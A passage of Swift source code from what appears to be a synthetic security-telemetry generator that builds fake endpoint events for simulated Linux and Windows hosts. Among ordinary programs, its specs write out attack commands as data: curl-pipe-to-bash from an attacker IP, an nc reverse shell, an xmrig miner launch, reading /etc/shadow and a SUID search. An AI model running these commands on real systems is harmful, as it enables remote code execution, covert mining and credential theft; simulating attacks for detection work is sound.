            var libIndexL: [String: Int32] = [:], libIndexW: [String: Int32] = [:]
            func addLib(_ path: String, _ b: inout Builder) -> Int32 {
                let name = Builder.lastComponent(path)
                let chunk = b.add(Array(",\"dll\":{\"name\":".utf8) + Builder.q(name) + Array(",\"path\":".utf8) + Builder.q(path) + [0x7D])
                b.dlls.append(chunk)
                return Int32(b.dlls.count - 1)
            }
            genericLibsLinux.start = Int32(dlls.count)
            for p in lGeneric { libIndexL[Builder.lastComponent(p)] = addLib(p, &self) }
            genericLibsLinux.count = Int32(dlls.count) - genericLibsLinux.start
            for p in lLibs { libIndexL[Builder.lastComponent(p)] = addLib(p, &self) }
            genericLibsWin.start = Int32(dlls.count)
            for p in wGeneric { libIndexW[Builder.lastComponent(p).lowercased()] = addLib(p, &self) }
            genericLibsWin.count = Int32(dlls.count) - genericLibsWin.start
            for p in wLibs { libIndexW[Builder.lastComponent(p).lowercased()] = addLib(p, &self) }

            buildRegistry()

            let specs = Specs.linuxPrograms() + Specs.windowsPrograms()
            var progIndex: [String: Int32] = [:]
            for (i, s) in specs.enumerated() {
                precondition(progIndex[s.id] == nil, "duplicate program id \(s.id)")
                progIndex[s.id] = Int32(i)
            }
            for s in specs {
                var p = Prog()
                p.os = s.windows ? 1 : 0
                p.life = s.life
                switch s.user {
                case .inherit: p.userKind = 0
                case .session: p.userKind = 1
                case .fixed(let u):
                    p.userKind = 2
                    guard let ui = userIndex[u] else { preconditionFailure("unknown user \(u)") }
                    p.fixedUser = ui
                }
                p.elevates = s.elevates
                p.sus = s.sus
                p.rate = Int32(s.rate)
                p.net = s.net
                let name = Builder.lastComponent(s.exe)
                p.nameExe = add(Array("\"name\":".utf8) + Builder.q(name) + Array(",\"executable\":".utf8) + Builder.q(s.exe))
                p.name = add(esc: name)
                p.varStart = Int32(variants.count)
                for v in s.args { variants.append(variantChunk(s, name: name, v)) }
                p.varCount = Int32(variants.count) - p.varStart
                p.kidStart = Int32(kidProg.count)
                var cum: Int32 = 0
                for (k, w) in s.kids {
                    guard let ki = progIndex[k] else { preconditionFailure("unknown child \(k) of \(s.id)") }
                    precondition(specs[Int(ki)].windows == s.windows, "child \(k) of \(s.id) is for another OS")
                    if benign && specs[Int(ki)].sus { continue }
                    cum += Int32(w)
                    kidProg.append(ki); kidCum.append(cum)
                }
                p.kidCount = Int32(kidProg.count) - p.kidStart
                p.fileStart = Int32(progFiles.count)
                var groups = s.files
                if groups.isEmpty { groups = [s.windows ? "wintemp" : "tmp"] }
                for g in groups {
                    guard let ds = groupDirs[(s.windows ? "W:" : "L:") + g] else { preconditionFailure("unknown file group \(g) of \(s.id)") }
                    progFiles.append(contentsOf: ds)
                }
                p.fileCount = Int32(progFiles.count) - p.fileStart
                p.libStart = Int32(progLibs.count)
                for l in s.libs {
                    let key = s.windows ? Builder.lastComponent(l).lowercased() : Builder.lastComponent(l)
                    guard let li = (s.windows ? libIndexW : libIndexL)[key] else { preconditionFailure("unknown library \(l) of \(s.id)") }
                    progLibs.append(li)
                }
                p.libCount = Int32(progLibs.count) - p.libStart
                progs.append(p)
            }
            fallbackChildLinux = progIndex["ls"]!
            fallbackChildWin = progIndex["conhost"]!
            buildHosts(hosts, progIndex: progIndex, rng: &rng)
        }

        mutating func variantChunk(_ s: Specs.PS, name: String, _ v: String) -> Chunk {
            var args: [String]
            var cmd: String
            if s.windows {
                let exeQ = s.exe.contains(" ") ? "\"" + s.exe + "\"" : s.exe
                if v.hasPrefix("@") {
                    cmd = String(v.dropFirst())
                } else {
                    cmd = v.isEmpty ? exeQ : exeQ + " " + v
                }
                args = Builder.tokenize(cmd, single: false)
            } else {
                let argv0 = s.life == .persistent ? s.exe : name
                if v.hasPrefix("=") {
                    args = [String(v.dropFirst())]
                } else if v.hasPrefix("@") {
                    args = Builder.tokenize(String(v.dropFirst()), single: true)
                } else {
                    args = [argv0] + Builder.tokenize(v, single: true)
                }
                cmd = args.joined(separator: " ")
            }
            var b = Array(",\"command_line\":".utf8) + Builder.q(cmd) + Array(",\"args\":[".utf8)
            for (i, a) in args.enumerated() {
                if i > 0 { b.append(0x2C) }
                b += Builder.q(a)
            }
            b.append(0x5D)
            return add(b)
        }

        mutating func addDir(_ dir: String, _ fileNames: [String], windows: Bool) -> Int32 {
            let sep = windows ? "\\" : "/"
            var home = false
            var rest = dir
            if rest.hasPrefix("{home}") { home = true; rest = String(rest.dropFirst(6)) }
            let nameStart = Int32(names.count)
            for n in fileNames {
                var fn = FileName(pre: Chunk(), placeholder: 0, post: Chunk(), ext: Chunk())
                var pre = n, post = ""
                for (ph, code) in [("{n}", UInt8(1)), ("{h}", 2), ("{H}", 3)] {
                    let parts = n.split(separator: Substring(ph), maxSplits: 1, omittingEmptySubsequences: false)
                    if parts.count == 2 {
                        pre = String(parts[0]); post = String(parts[1]); fn.placeholder = code
                        break
                    }
                }
                fn.pre = add(esc: pre)
                fn.post = add(esc: post)
                if let dot = n.lastIndex(of: "."), dot != n.startIndex {
                    let ext = String(n[n.index(after: dot)...])
                    if !ext.isEmpty, !ext.contains("{"), ext.count <= 6 { fn.ext = add(esc: ext) }
                }
                names.append(fn)
            }
            dirs.append(FileDir(home: home, rest: add(esc: rest + sep), nameStart: nameStart, nameCount: Int32(fileNames.count)))
            return Int32(dirs.count - 1)
        }

        mutating func buildHeaders() {
            func h(_ cat: String, _ type: String, _ action: String) -> String {
                "\"event\":{\"category\":[\"\(cat)\"],\"type\":[\"\(type)\"],\"action\":\"\(action)\",\"kind\":\"event\",\"dataset\":\"endpoint.events.\(cat)\"}"
            }
            for hdr in Hdr.allCases {
                let s: String
                switch hdr {
                case .procExec: s = h("process", "start", "exec")
                case .procStart: s = h("process", "start", "start")
                case .procEnd: s = h("process", "end", "end")
                case .fileCreate: s = h("file", "creation", "creation")
                case .fileModify: s = h("file", "change", "modification")
                case .fileDelete: s = h("file", "deletion", "deletion")
                case .fileRename: s = h("file", "change", "rename")
                case .netConnect: s = h("network", "start", "connection_attempted")
                case .netAccept: s = h("network", "start", "connection_accepted")
                case .netDisconnect: s = h("network", "end", "disconnect_received")
                case .libLoad: s = h("library", "start", "load")
                case .regModify: s = h("registry", "change", "modification")
                }
                headers.append(add(raw: s))
            }
        }

        mutating func buildUsers() {
            for (name, domain, home) in Specs.users() {
                var b = Array(",\"user\":{\"name\":".utf8) + Builder.q(name)
                if let domain { b += Array(",\"domain\":".utf8) + Builder.q(domain) }
                b.append(0x7D)
                let rec = UserRec(chunk: add(b), home: add(esc: home), human: domain == "CORP" || home.hasPrefix("/home/"))
                users.append(rec)
                userIndex[name] = Int32(users.count - 1)
            }
            rootUser = userIndex["root"]!
            systemUser = userIndex["SYSTEM"]!
        }

        mutating func buildPools() {
            let pools = Specs.ipPools()
            for kind in Pool.allCases {
                guard let list = pools[kind] else { preconditionFailure("no pool \(kind)") }
                let start = Int32(ipPools.count)
                for (prefix, tail) in list {
                    ipPools.append(IPPool(prefix: add(raw: prefix), tail: UInt8(tail), v6: prefix.contains(":")))
                }
                poolGroups.append(Range32(start: start, count: Int32(list.count)))
            }
        }

        mutating func buildRegistry() {
            func add(_ list: [Specs.Reg], _ b: inout Builder) -> Range32 {
                let start = Int32(b.regs.count)
                for r in list {
                    let long: String
                    switch r.hive {
                    case "HKLM": long = "HKEY_LOCAL_MACHINE"
                    case "HKU": long = "HKEY_USERS"
                    default: long = "HKEY_CURRENT_USER"
                    }
                    let path = long + "\\" + r.key + "\\" + r.value
                    var s = Array(",\"registry\":{\"hive\":".utf8) + Builder.q(r.hive)
                    s += Array(",\"path\":".utf8) + Builder.q(path)
                    s += Array(",\"key\":".utf8) + Builder.q(r.key)
                    s += Array(",\"value\":".utf8) + Builder.q(r.value)
                    s += Array(",\"data\":{\"type\":".utf8) + Builder.q(r.type)
                    s += Array(",\"strings\":[".utf8) + Builder.q(r.data) + Array("]}}".utf8)
                    b.regs.append(b.add(s))
                }
                return Range32(start: start, count: Int32(list.count))
            }
            let (generic, run, evil) = Specs.registry()
            regMachine = add(generic.filter { $0.hive == "HKLM" }, &self)
            regUser = add(generic.filter { $0.hive != "HKLM" }, &self)
            regRun = add(run, &self)
            regEvil = add(evil, &self)
        }

        mutating func buildHosts(_ n: Int, progIndex: [String: Int32], rng: inout Rng) {
            let roles = Specs.roles()
            var roleBoot: [String: Range32] = [:]
            for r in roles {
                let start = Int32(bootProg.count)
                for (id, parent) in r.boot {
                    guard let pi = progIndex[id] else { preconditionFailure("unknown boot program \(id)") }
                    bootProg.append(pi); bootParent.append(Int32(parent))
                }
                roleBoot[r.name] = Range32(start: start, count: Int32(r.boot.count))
            }
            let linuxCycle = ["web", "k8s", "db", "web", "k8s", "ci", "bastion", "k8s", "web", "db"]
            let linuxHumans = ["alice", "bob", "carol", "dmitri", "priya", "wei", "ubuntu", "deploy"]
            let winHumans = ["j.smith", "a.garcia", "m.chen", "s.patel", "k.oconnor", "l.nguyen", "r.kowalski",
                             "t.williams", "e.mueller", "f.rossi", "n.tanaka", "o.adeyemi"]
            let depts = ["FIN", "ENG", "HR", "MKT", "OPS", "SLS", "LEG", "IT"]
            var roleCount: [String: Int] = [:]
            var linuxN = 0, winN = 0
            for i in 0..<n {
                let windows = i % 5 == 1 || i % 5 == 3
                let role: String
                if windows {
                    role = winN % 10 == 4 ? "dc" : (winN % 10 == 9 ? "app" : "ws")
                    winN += 1
                } else {
                    role = linuxCycle[linuxN % linuxCycle.count]
                    linuxN += 1
                }
                let k = (roleCount[role] ?? 0) + 1
                roleCount[role] = k
                func pad(_ v: Int, _ w: Int) -> String {
                    let s = String(v)
                    return String(repeating: "0", count: max(0, w - s.count)) + s
                }
                let name: String
                let weight: Int
                switch role {
                case "web": name = "web-prod-" + pad(k, 2); weight = 6
                case "db": name = "db-prod-" + pad(k, 2); weight = 5
                case "k8s": name = "k8s-node-" + pad(k, 2); weight = 8
                case "ci": name = "ci-runner-" + pad(k, 2); weight = 4
                case "bastion": name = "bastion-" + pad(k, 2); weight = 2
                case "dc": name = "DC" + pad(k, 2); weight = 6
                case "app": name = "SRV-APP" + pad(k, 2); weight = 5
                default: name = "WS-" + depts[rng.below(depts.count)] + "-" + pad(100 + k * 7, 4); weight = 3
                }
                var id = ""
                for j in 0..<16 {
                    let byte = UInt8(truncatingIfNeeded: rng.next())
                    if windows && (j == 4 || j == 6 || j == 8 || j == 10) { id += "-" }
                    let hx = String(byte, radix: 16)
                    id += hx.count == 1 ? "0" + hx : hx
                }
                let hostJSON = ",\"host\":{\"name\":\"\(name)\",\"id\":\"\(id)\",\"os\":{\"type\":\"\(windows ? "windows" : "linux")\"}}"
                let ip4: String
                if windows {
                    ip4 = role == "ws" ? "10.30.\(1 + (k / 200) % 250).\(10 + k % 200)" : "10.20.0.\(10 + k + (role == "app" ? 40 : 0))"
                } else {
                    ip4 = "10.20.\(1 + (linuxN / 200) % 250).\(10 + linuxN % 200)"
                }
                let ip6 = "2600:1f18:4a3:6e0\(windows ? 1 : 0):" + String(0x1000 + rng.below(0xE000), radix: 16) + ":" +
                    String(0x1000 + rng.below(0xE000), radix: 16) + "::" + String(1 + rng.below(0xFFE), radix: 16)
                let humStart = Int32(hostHumans.count)
                switch role {
                case "ws": hostHumans.append(userIndex[winHumans[rng.below(winHumans.count)]]!)
                case "dc", "app":
                    hostHumans.append(userIndex["Administrator"]!)
                    hostHumans.append(userIndex["adm." + winHumans[rng.below(3)]]!)
                default:
                    let a = rng.below(linuxHumans.count)
                    var b2 = rng.below(linuxHumans.count)
                    if b2 == a { b2 = (a + 1) % linuxHumans.count }
                    hostHumans.append(userIndex[linuxHumans[a]]!)
                    hostHumans.append(userIndex[linuxHumans[b2]]!)
                    if role == "ci" { hostHumans.append(userIndex["gitlab-runner"]!) }
                }
                let boot = roleBoot[role]!
                hostInfo.append(HostInfo(chunk: add(raw: hostJSON), windows: windows, ip4: add(raw: ip4), ip6: add(raw: ip6),
                                         humStart: humStart, humCount: Int32(hostHumans.count) - humStart,
                                         bootStart: boot.start, bootCount: boot.count))
                for _ in 0..<weight { hostTable.append(i) }
            }
        }
    }
}

// MARK: - Content: programs, files, libraries, registry, users, networks

extension EventGenerator {
    enum Specs {
        enum UMode { case inherit, session, fixed(String) }

        struct PS {
            var id: String
            var exe: String
            var args: [String]
            var windows: Bool
            var life: Life
            var user: UMode
            var kids: KeyValuePairs<String, Int>
            var rate: Int
            var net: Net
            var files: [String]
            var libs: [String]
            var elevates: Bool
            var sus: Bool
        }

        /// A program. `args` are command-line variants. Linux: the tail after argv[0] (argv[0] is the
        /// name, or the executable for persistent daemons); `@…` is a whole command line, `=…` a single
        /// argument (rewritten process titles). Windows: the tail after the (quoted if needed)
        /// executable; `@…` is the whole raw command line.
        static func P(_ id: String, _ exe: String, _ args: [String] = [""], win: Bool = false, life: Life = .short,
                      user: UMode = .inherit, kids: KeyValuePairs<String, Int> = [:], rate: Int = 100, net: Net = .none,
                      files: [String] = [], libs: [String] = [], elevates: Bool = false, sus: Bool = false) -> PS
        {
            PS(id: id, exe: exe, args: args, windows: win, life: life, user: user, kids: kids, rate: rate, net: net,
               files: files, libs: libs, elevates: elevates, sus: sus)
        }

        static func W(_ id: String, _ exe: String, _ args: [String] = [""], life: Life = .short,
                      user: UMode = .inherit, kids: KeyValuePairs<String, Int> = [:], rate: Int = 100, net: Net = .none,
                      files: [String] = [], libs: [String] = [], sus: Bool = false) -> PS
        {
            PS(id: id, exe: exe, args: args, windows: true, life: life, user: user, kids: kids, rate: rate, net: net,
               files: files, libs: libs, elevates: false, sus: sus)
        }

        static var shellKids: KeyValuePairs<String, Int> { [
            "ls": 120, "cat": 80, "grep": 60, "vim": 50, "less": 30, "ps": 40, "top": 16, "git": 60, "curl": 40,
            "wget": 12, "python3": 30, "ssh": 24, "scp": 10, "tar": 20, "sudo": 60, "find": 16, "df": 16, "du": 10,
            "free": 8, "docker": 24, "kubectl": 20, "systemctl": 24, "journalctl": 16, "tail": 30, "head": 10,
            "id": 8, "uname": 8, "hostname": 6, "whoami": 8, "ping": 10, "dig": 10, "make": 12, "go": 10, "npm": 10,
            "crontab": 6, "chmod": 12, "bash-script": 16, "bash-c-docker": 1, "bash-c-evil": 1, "nc": 1,
            "find-suid": 1, "base64-evil": 1,
        ] }

        static func linuxPrograms() -> [PS] {
            var L: [PS] = []
            // boot / daemons
            L += [
                P("systemd", "/usr/lib/systemd/systemd", ["--system --deserialize 31", "@/sbin/init splash"], life: .persistent,
                  user: .fixed("root"), kids: ["logrotate": 3, "systemd-tmpfiles": 3, "apt-get": 1, "fwupdmgr": 1], rate: 12,
                  files: ["journal", "etc"], libs: ["libsystemd-shared-249.so", "libseccomp.so.2", "libmount.so.1"]),
                P("systemd-journald", "/usr/lib/systemd/systemd-journald", [""], life: .persistent, user: .fixed("root"), files: ["journal"]),
                P("systemd-udevd", "/usr/lib/systemd/systemd-udevd", [""], life: .persistent, user: .fixed("root"), files: ["etc"]),
                P("systemd-resolved", "/usr/lib/systemd/systemd-resolved", [""], life: .persistent, user: .fixed("systemd-resolve"),
                  net: .dns, files: ["etc"]),
                P("systemd-timesyncd", "/usr/lib/systemd/systemd-timesyncd", [""], life: .persistent, user: .fixed("systemd-timesync"), net: .ntp),
                P("systemd-logind", "/usr/lib/systemd/systemd-logind", [""], life: .persistent, user: .fixed("root")),
                P("rsyslogd", "/usr/sbin/rsyslogd", ["-n -iNONE"], life: .persistent, user: .fixed("syslog"), files: ["varlog"]),
                P("cron", "/usr/sbin/cron", ["-f -P"], life: .persistent, user: .fixed("root"), kids: ["sh-cron": 400, "sh-cronevil": 1], rate: 20),
                P("sshd", "/usr/sbin/sshd", ["-D", "=sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], life: .persistent,
                  user: .fixed("root"), kids: ["bash-login": 1], rate: 25, net: .sshd, files: ["varlog", "etc"],
                  libs: ["libpam.so.0", "libwrap.so.0", "libcrypto.so.3", "libsystemd.so.0"]),
                P("node_exporter", "/usr/local/bin/node_exporter", ["--collector.systemd --web.listen-address=:9100"], life: .persistent,
                  user: .fixed("prometheus"), net: .metrics),
                P("elastic-agent", "/opt/Elastic/Agent/data/elastic-agent-8.15.2-0b2a4c/elastic-agent", ["run"], life: .persistent,
                  user: .fixed("root"), net: .agent, files: ["elastic"]),
                P("elastic-endpoint", "/opt/Elastic/Endpoint/elastic-endpoint", ["run"], life: .persistent, user: .fixed("root"),
                  net: .agent, files: ["elastic"], libs: ["libcrypto.so.3", "libssl.so.3"]),
                P("nginx", "/usr/sbin/nginx", ["=nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"],
                  life: .persistent, user: .fixed("root"), files: ["nginx", "etc"]),
                P("nginx-worker", "/usr/sbin/nginx", ["=nginx: worker process"], life: .persistent, user: .fixed("www-data"),
                  net: .https, files: ["nginx"], libs: ["libssl.so.3", "libcrypto.so.3", "libpcre2-8.so.0"]),
                P("gunicorn", "/opt/app/venv/bin/python3",
                  ["@/opt/app/venv/bin/python3 /opt/app/venv/bin/gunicorn --workers 4 --bind 127.0.0.1:8000 app.wsgi:application"],
                  life: .persistent, user: .fixed("deploy"), net: .pgc, files: ["app"],
                  libs: ["libpython3.10.so.1.0", "_ssl.cpython-310-x86_64-linux-gnu.so", "libpq.so.5"]),
                P("postgres", "/usr/lib/postgresql/14/bin/postgres",
                  ["-D /var/lib/postgresql/14/main -c config_file=/etc/postgresql/14/main/postgresql.conf"], life: .persistent,
                  user: .fixed("postgres"), kids: ["postgres-backend": 1], rate: 30, net: .pg, files: ["pg"],
                  libs: ["libssl.so.3", "libldap-2.5.so.0", "libxml2.so.2", "libgssapi_krb5.so.2"]),
                P("postgres-ckpt", "/usr/lib/postgresql/14/bin/postgres", ["=postgres: 14/main: checkpointer"], life: .persistent, files: ["pg"]),
                P("postgres-wal", "/usr/lib/postgresql/14/bin/postgres", ["=postgres: 14/main: walwriter"], life: .persistent, files: ["pg"]),
                P("postgres-autovac", "/usr/lib/postgresql/14/bin/postgres", ["=postgres: 14/main: autovacuum launcher"], life: .persistent, files: ["pg"]),
                P("postgres-backend", "/usr/lib/postgresql/14/bin/postgres",
                  ["=postgres: 14/main: app appdb 10.20.1.21(51234) idle", "=postgres: 14/main: app appdb 10.20.1.22(40312) SELECT",
                   "=postgres: 14/main: reporting appdb 10.20.3.40(38850) idle in transaction"], files: ["pg"]),
                P("containerd", "/usr/bin/containerd", [""], life: .persistent, user: .fixed("root"), kids: ["containerd-shim": 1],
                  rate: 5, files: ["containerd"], libs: ["libseccomp.so.2"]),
                P("containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                  ["-namespace k8s.io -id 4f2a9c1e7b3d5f8a0c6e2b4d9f1a3c5e7b9d0f2a4c6e8b1d3f5a7c9e0b2d4f6a -address /run/containerd/containerd.sock",
                   "-namespace moby -id 8c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d -address /run/containerd/containerd.sock"],
                  life: .long, user: .fixed("root"), kids: ["sh-probe": 1], rate: 25, files: ["containerd"]),
                P("java-app", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                  ["-Xms512m -Xmx2g -XX:+UseG1GC -jar /app/orders-service.jar --spring.profiles.active=prod"], life: .persistent,
                  user: .fixed("app"), net: .pgc, files: ["app"], libs: ["libjvm.so", "libz.so.1"]),
                P("node-app", "/usr/local/bin/node", ["/usr/src/app/server.js"], life: .persistent, user: .fixed("node"),
                  net: .httpInt, files: ["app"], libs: ["libnode.so.109", "libssl.so.3"]),
                P("sh-probe", "/bin/sh", ["@/bin/sh -c 'pg_isready -h localhost -p 5432'", "@/bin/sh -c 'wget -q -O- http://localhost:8080/healthz'"]),
                P("kubelet", "/usr/bin/kubelet",
                  ["--bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf --kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///var/run/containerd/containerd.sock"],
                  life: .persistent, user: .fixed("root"), kids: ["iptables": 3, "mount": 2, "umount": 2], rate: 20, net: .k8s,
                  files: ["kubelet"]),
                P("iptables", "/usr/sbin/iptables", ["-w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle", "-t nat -L KUBE-SERVICES -n"]),
                P("mount", "/usr/bin/mount",
                  ["-t tmpfs tmpfs /var/lib/kubelet/pods/8d2f41c6-3b7e-4a09-9c1d-5e6f7a8b9c0d/volumes/kubernetes.io~projected/kube-api-access-x7k2p"]),
                P("umount", "/usr/bin/umount", ["/var/lib/kubelet/pods/0a9b8c7d-6e5f-4a3b-2c1d-0e9f8a7b6c5d/volumes/kubernetes.io~secret/tls"]),
                P("dockerd", "/usr/bin/dockerd", ["-H fd:// --containerd=/run/containerd/containerd.sock"], life: .persistent,
                  user: .fixed("root"), net: .web, files: ["containerd"]),
                P("gitlab-runner", "/usr/bin/gitlab-runner",
                  ["run --working-directory /home/gitlab-runner --config /etc/gitlab-runner/config.toml --service gitlab-runner --user gitlab-runner"],
                  life: .persistent, user: .fixed("root"), kids: ["bash-ci": 1], rate: 20, net: .web, files: ["build"]),
            ]
            // shells
            L += [
                P("bash-ci", "/usr/bin/bash", ["--login"], user: .fixed("gitlab-runner"),
                  kids: ["make": 3, "go": 3, "npm": 3, "docker": 4, "git": 4, "curl": 2, "tar": 1], files: ["build"]),
                P("bash-login", "/usr/bin/bash", ["=-bash"], life: .long, user: .session, kids: shellKids, files: ["home", "repo"]),
                P("bash-root", "/usr/bin/bash", ["=-bash"], life: .long, kids: shellKids, files: ["home", "etc"]),
                P("bash-script", "/usr/bin/bash", ["deploy.sh", "/opt/scripts/rotate-logs.sh", "scripts/run-tests.sh"],
                  kids: ["curl": 3, "tar": 2, "git": 2, "docker": 2, "python3": 2, "systemctl": 1, "cat": 2, "grep": 2],
                  files: ["home", "tmp"]),
                P("bash-c-docker", "/usr/bin/bash", ["-c 'curl -fsSL https://get.docker.com | sh'"], kids: ["curl": 1, "sh-docker": 1]),
                P("sh-docker", "/usr/bin/dash", ["@sh"], kids: ["apt-get": 1], files: ["apt", "tmp"]),
                P("bash-c-evil", "/usr/bin/bash", ["-c 'curl -fsSL http://185.220.101.47/x.sh | bash'"],
                  kids: ["curl-evil": 1, "bash-evil": 1], files: ["evil-linux"], sus: true),
                P("bash-evil", "/usr/bin/bash", [""], kids: ["chmod-evil": 2, "xmrig": 1, "nc": 1, "crontab": 1],
                  files: ["evil-linux"], libs: ["/dev/shm/.x/libx.so"], sus: true),
                P("sh-cron", "/usr/bin/dash",
                  ["@/bin/sh -c 'cd / && run-parts --report /etc/cron.hourly'",
                   "@/bin/sh -c '/usr/local/bin/backup.sh >> /var/log/backup.log 2>&1'",
                   "@/bin/sh -c 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'",
                   "@/bin/sh -c 'certbot -q renew'"],
                  kids: ["run-parts": 3, "tar": 2, "python3": 2, "certbot": 1], files: ["varlog", "tmp"]),
                P("sh-cronevil", "/usr/bin/dash", ["@/bin/sh -c 'curl -fsSL http://185.220.101.47/x.sh | bash'"],
                  kids: ["curl-evil": 1, "bash-evil": 1], files: ["evil-linux"], sus: true),
                P("sh-postrotate", "/usr/bin/dash", ["@/bin/sh -c 'invoke-rc.d rsyslog rotate > /dev/null'"], files: ["varlog"]),
            ]
            // commands
            L += [
                P("ls", "/usr/bin/ls", ["-la", "-lah /var/log", "--color=auto", "-ltr /tmp"], files: ["home"]),
                P("cat", "/usr/bin/cat", ["/etc/os-release", "/var/log/syslog", "config.yaml", "/proc/cpuinfo"], files: ["etc", "varlog"]),
                P("cat-shadow", "/usr/bin/cat", ["/etc/shadow"], files: ["etcsens"], sus: true),
                P("grep", "/usr/bin/grep", ["-r TODO src/", "-i error /var/log/syslog", "--color=auto -n timeout app.log"], files: ["varlog", "repo"]),
                P("vim", "/usr/bin/vim", ["config.yaml", "/etc/nginx/sites-available/default", "main.go", ".bashrc"], life: .long,
                  files: ["home", "repo", "etc"]),
                P("less", "/usr/bin/less", ["/var/log/auth.log", "README.md"], life: .long, files: ["home"]),
                P("ps", "/usr/bin/ps", ["aux", "-ef", "-eo pid,ppid,cmd,%mem --sort=-%mem"]),
                P("top", "/usr/bin/top", [""], life: .long),
                P("git", "/usr/bin/git", ["pull", "status", "fetch --all --prune", "log --oneline -n 20",
                                           "clone git@github.com:acme/platform.git", "push origin HEAD"],
                  kids: ["ssh-git": 2, "git-remote-https": 2], rate: 60, files: ["repo"]),
                P("git-remote-https", "/usr/lib/git-core/git-remote-https", ["origin https://github.com/acme/platform.git"],
                  net: .github, files: ["repo"], libs: ["libcurl.so.4", "libssl.so.3", "libcrypto.so.3", "libnghttp2.so.14"]),
                P("ssh-git", "/usr/bin/ssh", ["-o SendEnv=GIT_PROTOCOL git@github.com \"git-upload-pack 'acme/platform.git'\""],
                  net: .sshc, files: ["home"], libs: ["libcrypto.so.3"]),
                P("ssh", "/usr/bin/ssh", ["deploy@10.20.1.21", "-A admin@10.20.2.15", "db-prod-01", "-L 5432:localhost:5432 bastion-01"],
                  life: .long, net: .sshc, files: ["home"], libs: ["libcrypto.so.3"]),
                P("scp", "/usr/bin/scp", ["backup.tar.gz deploy@10.20.1.30:/srv/backups/", "deploy@10.20.1.21:/var/log/app/app.log ."],
                  net: .sshc, files: ["home", "download"]),
                P("curl", "/usr/bin/curl",
                  ["-s https://api.github.com/repos/acme/platform/releases/latest", "-I https://example.com",
                   "-fsSL -o /tmp/helm.tar.gz https://get.helm.sh/helm-v3.14.4-linux-amd64.tar.gz", "-s http://localhost:9100/metrics",
                   #"-X POST -H 'Content-Type: application/json' -d '{"text":"deploy \"api\" finished"}' https://hooks.slack.com/services/T024BE7LD/B08AA1B2C3D/XyZ"#],
                  net: .web, files: ["download"], libs: ["libcurl.so.4", "libssl.so.3", "libcrypto.so.3", "libnghttp2.so.14"]),
                P("wget", "/usr/bin/wget",
                  ["-q https://github.com/prometheus/node_exporter/releases/download/v1.8.0/node_exporter-1.8.0.linux-amd64.tar.gz"],
                  net: .web, files: ["download"], libs: ["libssl.so.3"]),
                P("curl-evil", "/usr/bin/curl", ["-fsSL http://185.220.101.47/x.sh", "-s -o /tmp/.x/xmrig http://91.92.240.13/xmrig"],
                  net: .evilweb, files: ["evil-linux"], libs: ["libcurl.so.4", "libssl.so.3"], sus: true),
                P("base64-evil", "/usr/bin/base64", ["-d /tmp/.x/p.b64"], files: ["evil-linux"], sus: true),
                P("chmod", "/usr/bin/chmod", ["+x deploy.sh", "600 id_ed25519", "-R 755 /var/www/html"], files: ["home"]),
                P("chmod-evil", "/usr/bin/chmod", ["+x /tmp/.x/xmrig"], files: ["evil-linux"], sus: true),
                P("xmrig", "/tmp/.x/xmrig",
                  ["-o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls"],
                  life: .long, net: .pool, files: ["evil-linux"], libs: ["/usr/local/lib/libprocesshider.so"], sus: true),
                P("nc", "/usr/bin/nc.openbsd", ["-e /bin/sh 185.220.101.47 4444", "-lvnp 9001", "185.220.101.47 1337"], life: .long,
                  net: .nc, files: ["evil-linux"], sus: true),
                P("whoami", "/usr/bin/whoami"),
                P("id", "/usr/bin/id", ["", "-u"]),
                P("uname", "/usr/bin/uname", ["-a", "-r"]),
                P("hostname", "/usr/bin/hostname", ["", "-I"]),
                P("df", "/usr/bin/df", ["-h", "-i"]),
                P("du", "/usr/bin/du", ["-sh /var/log", "-sh node_modules"]),
                P("free", "/usr/bin/free", ["-m", "-h"]),
                P("tail", "/usr/bin/tail", ["-f /var/log/syslog", "-n 100 /var/log/nginx/error.log", "-F app.log"], life: .long, files: ["varlog"]),
                P("head", "/usr/bin/head", ["-n 50 data.csv"], files: ["home"]),
                P("find", "/usr/bin/find", ["/var/log -name *.gz -mtime +30 -delete", ". -name *.py"], files: ["varlog", "repo"]),
                P("find-suid", "/usr/bin/find", ["/ -perm -4000 -type f", "/ -perm -u=s -type f 2>/dev/null"], sus: true),
                P("tar", "/usr/bin/tar", ["-czf backup-2026.tar.gz /srv/data", "-xzf helm.tar.gz", "-xf node_exporter-1.8.0.linux-amd64.tar.gz"],
                  files: ["download"], libs: ["libz.so.1", "liblzma.so.5"]),
                P("sudo", "/usr/bin/sudo", ["systemctl restart nginx", "-i", "apt-get upgrade -y", "tail -f /var/log/auth.log", "docker ps"],
                  kids: ["systemctl": 10, "apt-get": 6, "journalctl": 6, "vim": 4, "tail": 4, "cat": 4, "docker": 4, "bash-root": 2,
                         "cat-shadow": 1, "crontab": 1],
                  files: ["varlog"], libs: ["libpam.so.0", "libaudit.so.1"], elevates: true),
                P("systemctl", "/usr/bin/systemctl", ["status nginx", "restart nginx", "daemon-reload", "list-units --failed", "is-active postgresql"],
                  libs: ["libsystemd-shared-249.so"]),
                P("journalctl", "/usr/bin/journalctl", ["-u nginx -n 200", "-xe", "-f -u kubelet"], files: ["journal"]),
                P("apt-get", "/usr/bin/apt-get", ["-qq update", "update", "upgrade -y", "install -y jq"],
                  kids: ["apt-http": 3, "dpkg": 1], files: ["apt"]),
                P("apt-http", "/usr/lib/apt/methods/http", [""], user: .fixed("_apt"), net: .web, files: ["apt"]),
                P("dpkg", "/usr/bin/dpkg", ["--status-fd 23 --configure --pending", "-i /var/cache/apt/archives/jq_1.6-2.1ubuntu3_amd64.deb"],
                  files: ["apt"]),
                P("logrotate", "/usr/sbin/logrotate", ["/etc/logrotate.conf"], kids: ["gzip": 3, "sh-postrotate": 1], files: ["varlog"]),
